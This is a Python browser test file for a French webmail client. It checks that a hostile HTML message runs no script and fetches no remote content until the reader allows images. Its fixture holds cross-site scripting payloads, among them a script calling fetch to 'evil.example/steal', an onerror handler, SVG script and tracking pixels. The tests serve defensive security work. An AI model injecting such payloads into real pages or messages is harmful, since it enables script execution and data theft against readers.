"""A hostile HTML message in a real browser: no script runs, nothing leaves the page."""

from urllib.parse import urlsplit

import pytest

from tests.browser.conftest import screenshot
from tests.conftest import DEFAULT_TEST_PASSWORD
from tests.mailbox.test_reading import deliver

pytestmark = pytest.mark.browser

SCRIPTED = (
    '<p id="greeting">Bonjour</p>'
    "<script>document.title='PWNED'; fetch('https://evil.example/steal')</script>"
    '<img src="x" onerror="document.title=\'PWNED\'">'
    '<img src="https://tracker.example/pixel.gif">'
    '<div style="background-image:url(https://tracker.example/bg.gif)">Fond</div>'
    '<svg><script>parent.document.title="PWNED"</script></svg>'
)


def sign_in(page, live_server, user):
    page.goto(f"{live_server.url}/")
    page.get_by_label("Identifiant").fill(user.username)
    page.get_by_label("Mot de passe").fill(DEFAULT_TEST_PASSWORD)
    page.get_by_role("button", name="Se connecter").click()
    page.wait_for_selector("tr[data-uid]")
    page.wait_for_load_state("load")  # the page's scripts are in place


def test_a_hostile_message_runs_nothing_and_loads_nothing_remote(page, live_server, make_account):
    sender = make_account(first_name="Pirate", last_name="Malin")
    reader = make_account(first_name="Marie", last_name="Martin")
    deliver(sender, reader, "Facture impayée — urgent", html=SCRIPTED)
    requested = []
    page.on("request", lambda request: requested.append(request.url))

    sign_in(page, live_server, reader)
    page.get_by_role("link", name="Facture impayée — urgent").click()
    frame = page.frame_locator("iframe.message-body")
    frame.get_by_text("Bonjour").wait_for()
    page.wait_for_timeout(500)

    assert page.title() != "PWNED"
    hosts = {urlsplit(url).hostname for url in requested if url.startswith("http")}
    assert hosts == {urlsplit(live_server.url).hostname}, hosts
    assert page.get_by_role("status").filter(has_text="images").is_visible()
    screenshot(page, "hostile-message-fr")


def test_remote_images_load_after_the_reader_allows_them(page, live_server, make_account):
    sender = make_account(first_name="Lettre", last_name="Académie")
    reader = make_account()
    deliver(sender, reader, "Lettre d'information", html=SCRIPTED)
    requested = []
    page.on("request", lambda request: requested.append(request.url))
    # The outside world is not reachable here: answer the tracker's request ourselves.
    page.route("https://tracker.example/**", lambda route: route.fulfill(status=204))

    sign_in(page, live_server, reader)
    page.get_by_role("link", name="Lettre d'information").click()
    page.locator("a[href='?images=1']").click()
    page.frame_locator("iframe.message-body").get_by_text("Bonjour").wait_for()
    page.wait_for_timeout(500)

    assert "https://tracker.example/pixel.gif" in requested
    assert not any("evil.example" in url for url in requested)
    assert page.title() != "PWNED"
